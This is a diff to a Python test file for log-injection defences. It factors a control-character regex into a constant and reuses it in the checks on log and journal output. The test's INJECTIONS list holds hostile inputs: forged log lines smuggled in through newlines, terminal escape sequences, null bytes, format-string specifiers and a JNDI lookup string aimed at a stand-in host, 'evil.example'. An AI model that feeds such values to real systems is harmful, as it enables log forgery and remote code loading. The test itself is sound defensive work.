@@ -7,6 +7,7 @@ import council
 from probe import PASSWORD, House, Visitor, check, run
 
 MARK = "2026-01-01T00:00:00.000+00:00 error store: forged line"
+CONTROLS = r"[\x00-\x09\x0b-\x1f\x7f-\x9f]"
 INJECTIONS = [f"x\n{MARK}", f"x\r\n{MARK}", f"x\r{MARK}", "x\x1b[2J\x1b]0;owned\x07", "x\x00y", "x\x85y", "x\u2028" + MARK, "x\x9b2Jy", "x\x7fy", "%0a" + MARK, "\\n" + MARK, "${jndi:ldap://evil.example/x}", "%n%s%x"]
 
 
@@ -39,7 +40,8 @@ def lines(text):
 
 def whole(house, form):
     text = house.log.read_bytes().decode("utf-8")
-    check(not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text), f"control characters in the log: {re.findall(r'.{0,40}[\x00-\x09\x0b-\x1f\x7f-\x9f].{0,20}', text)[:2]!r}")
+    steering = re.findall(".{0,40}" + CONTROLS + ".{0,20}", text)
+    check(not steering, f"control characters in the log: {steering[:2]!r}")
     count = 0
     for line in lines(text):
         if form == "json":
@@ -78,7 +80,7 @@ def journal(house):
     """What an operator reads on a terminal is neutral too."""
     for form in ([], ["--json"]):
         code, out, err = house.cli(*form, "journal", "tail", "-n", "500")
-        check(code == 0 and not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", out + err), f"journal tail {form} shows control characters")
+        check(code == 0 and not re.search(CONTROLS, out + err), f"journal tail {form} shows control characters")
 
 
 def main():
